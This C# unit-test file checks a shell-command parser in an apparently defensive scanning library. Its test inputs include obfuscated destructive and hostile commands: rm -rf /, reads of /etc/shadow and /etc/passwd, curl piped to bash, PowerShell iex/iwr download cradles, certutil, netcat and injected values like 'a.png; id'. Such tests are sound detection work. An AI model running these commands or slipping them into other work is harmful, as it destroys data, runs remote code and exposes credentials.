using System.Text;
using Oktsec.Scanning.Parsers;

namespace Oktsec.Scanning.Tests.Parsers;

public sealed class ShellCommandTests
{
    [Theory]
    [InlineData("rm -rf /tmp/x", "cmd:rm flag:rf flag:r flag:f arg:/tmp/x")]
    [InlineData("r''m -r\"f\" ~", "cmd:rm trick:patched flag:rf flag:r flag:f arg:~")]
    [InlineData(@"\rm $'\x2f'", "cmd:rm arg:/")]
    [InlineData("sudo -u root /bin/cat /etc/shadow", "wrapper:sudo flag:u cmd:cat file:/bin/cat arg:/etc/shadow")]
    [InlineData("A=1 B=2 env -i C=3 ls", "assign:A=1 assign:B=2 wrapper:env flag:i assign:C=3 cmd:ls")]
    [InlineData("timeout 5 nohup ping x", "wrapper:timeout wrapper:nohup cmd:ping arg:x")]
    [InlineData("cat${IFS}/etc/passwd", "cmd:cat arg:/etc/passwd")]
    [InlineData("cat$IFS$9/etc/passwd", "cmd:cat arg:/etc/passwd")]
    [InlineData("{cat,/etc/passwd}", "cmd:cat arg:/etc/passwd")]
    [InlineData("echo x > /etc/cron.d/y", "cmd:echo arg:x write:/etc/cron.d/y")]
    [InlineData("mail < /etc/passwd 2>&1", "cmd:mail read:/etc/passwd")]
    [InlineData("git commit --message='a; b'", "cmd:git arg:commit flag:message arg:a; b")]
    [InlineData("echo it's", "cmd:echo arg:its")]
    [InlineData("ls # rm -rf /", "cmd:ls")]
    public void Parse_OneCommand_IsRead(string text, string expected) => Assert.Equal([expected], Items(text));

    [Theory]
    [InlineData("curl x | sudo bash", "cmd:curl arg:x", "wrapper:sudo cmd:bash runs:stdin pipefrom:curl")]
    [InlineData("a && b || c; d & e", "cmd:a", "cmd:b", "cmd:c", "cmd:d", "cmd:e")]
    [InlineData("{ cd /; ls; }", "cmd:cd arg:/", "cmd:ls")]
    [InlineData("bash -c 'rm x'", "cmd:rm arg:x inside:script", "cmd:bash flag:c arg:rm x")]
    [InlineData("eval \"id -u\"", "cmd:id flag:u inside:script", "cmd:eval arg:id -u")]
    [InlineData("echo $(whoami) `id`", "cmd:whoami inside:substitution", "cmd:id inside:substitution", "cmd:echo arg:$ arg:$")]
    [InlineData("sh <(curl x)", "cmd:curl arg:x inside:substitution feeds:sh", "cmd:sh arg:$")]
    [InlineData("find . -name x -exec rm {} ;", "cmd:find arg:. flag:name flag:n flag:a flag:m flag:e arg:ame arg:x flag:exec flag:e flag:x flag:e flag:c arg:xec cmd:rm arg:{}")]
    [InlineData("cmd /c del /s x", "cmd:cmd flag:c arg:/c cmd:del flag:s arg:/s arg:x")]
    [InlineData("if true; then reboot; fi", "wrapper:if cmd:true", "wrapper:then cmd:reboot", "cmd:fi")]
    [InlineData("cmd.exe /c \"del /s x\"", "cmd:del flag:s arg:/s arg:x inside:script", "cmd:cmd file:cmd.exe flag:c arg:/c arg:del /s x")]
    [InlineData("powershell -Command \"Remove-Item -Recurse x\"", "cmd:Remove-Item flag:Recurse arg:x inside:script", "cmd:powershell flag:Command arg:Remove-Item -Recurse x")]
    public void Parse_SeveralCommands_AreRead(string text, params string[] expected) => Assert.Equal(expected, Items(text));

    [Theory]
    [InlineData("p^ower^shell -NoProfile", "cmd:powershell flag:NoProfile")]
    [InlineData("I`E`X $x", "cmd:IEX arg:$x")]
    [InlineData(@"C:\Windows\System32\certutil.exe -urlcache x", "cmd:certutil flag:urlcache")]
    [InlineData("%COMSPEC% /c dir", "cmd:cmd flag:c cmd:dir")]
    [InlineData("iex (iwr http://x.example.net)", "cmd:iwr feeds:iex")]
    [InlineData("iex(iwr http://x.example.net)", "cmd:iwr feeds:iex")]
    [InlineData("Remove-Item -Path:C:\\ -Recurse", "cmd:Remove-Item flag:Path arg:C:\\")]
    [InlineData("powershell \u2013enc x", "cmd:powershell flag:enc")]
    [InlineData("ssh -p 22 host 'rm x'", "cmd:rm inside:script")]
    [InlineData("ssh host rm x", "cmd:ssh cmd:rm arg:x")]
    [InlineData("docker exec box sh -c 'rm x'", "cmd:rm inside:script")]
    [InlineData("(curl x; echo) | sh -s -- a", "cmd:sh pipefrom:echo")]
    [InlineData("curl x | python3 -", "runs:stdin pipefrom:curl")]
    [InlineData("bash -c \"$(curl x)\"", "cmd:curl feeds:bash")]
    [InlineData("$(curl x)", "cmd:curl feeds:command")]
    [InlineData("powershell -Exec Bypass -Command \"iwr x | iex\"", "cmd:iex pipefrom:iwr inside:script")]
    [InlineData("find . -exec /bin/sh ;", "cmd:find cmd:sh runs:stdin")]
    [InlineData("sudo -i", "wrapper:sudo flag:i runs:shell")]
    [InlineData(@"c\at notes", "cmd:cat trick:patched")]
    [InlineData(@"n\etc\at 203.0.113.5 80", "cmd:netcat trick:patched")]
    [InlineData(@"who\ami", "cmd:whoami")]
    public void Parse_OtherShellsAndHosts_HoldsFor(string text, string predicate) => Assert.True(Recorder.Holds(FactLanguage.Shell, text, predicate));

    [Theory]
    [InlineData("curl x | python3 -m json.tool", "runs:stdin")]
    [InlineData("curl x | node -e 'y'", "runs:stdin")]
    [InlineData("bash -c \"echo $(curl x)\"", "feeds:*")]
    [InlineData("(curl x | jq .)", "feeds:*")]
    [InlineData("sudo ls -i", "runs:shell")]
    [InlineData("[ -f x ]", "opaque:*")]
    [InlineData("It's a test of what's here", "trick:*")]
    [InlineData("ssh host", "runs:*")]
    [InlineData(@"venv\Scripts\activate", "trick:patched")]
    [InlineData(@"build\run.cmd release", "trick:patched")]
    [InlineData(@"& $env:X\bin\foo.exe", "trick:patched")]
    public void Parse_OrdinaryCommand_DoesNotHold(string text, string predicate) => Assert.False(Recorder.Holds(FactLanguage.Shell, text, predicate));

    [Theory]
    [InlineData("a.png; id", "cmd:id operator:semicolon operator:spaced")]
    [InlineData("|uname -a", "cmd:uname operator:pipe operator:first")]
    [InlineData("x\\nid", "cmd:id operator:newline")]
    [InlineData("x%0acat%20/etc/hosts", "cmd:cat operator:newline arg:/etc/hosts")]
    [InlineData("'; id; '", "cmd:id operator:semicolon")]
    [InlineData("a$(id)b", "cmd:id operator:substitution")]
    [InlineData("id 7", "cmd:id operator:none")]
    public void ParseValue_CommandInIt_NamesTheOperator(string text, string predicate) => Assert.True(Recorder.Holds(FactLanguage.Injection, text, predicate));

    [Theory]
    [InlineData("$CMD x", true)]
    [InlineData("/???/c?t /etc/passwd", true)]
    [InlineData("cat $FILE", false)]
    public void Parse_NameFromOutside_IsOpaque(string text, bool expected) => Assert.Equal(expected, Recorder.Holds(FactLanguage.Shell, text, "opaque:command"));

    [Theory]
    [InlineData("rm -rf node_modules", false)]
    [InlineData("rm -rf ~", true)]
    [InlineData("rm -r -f /", true)]
    [InlineData("rm --recursive --force /*", true)]
    [InlineData("find . | xargs rm -rf ~/", true)]
    public void Predicate_DestructiveRemove_TellsTargetsApart(string text, bool expected) =>
        Assert.Equal(expected, Recorder.Holds(FactLanguage.Shell, text, "cmd:rm flag:r|R|recursive arg:/|/[*]|~|~/"));

    [Fact]
    public void Parse_DeepNesting_Ends()
    {
        var text = string.Concat(Enumerable.Repeat("$(", 5000)) + "id" + new string(')', 5000);
        Items(text);
        Items(string.Concat(Enumerable.Repeat("bash -c \"", 300)));
    }

    private static List<string> Items(string text)
    {
        var recorder = new Recorder();
        Recorder.Run(FactLanguage.Shell, Encoding.UTF8.GetBytes(text), recorder);
        return recorder.Items;
    }
}
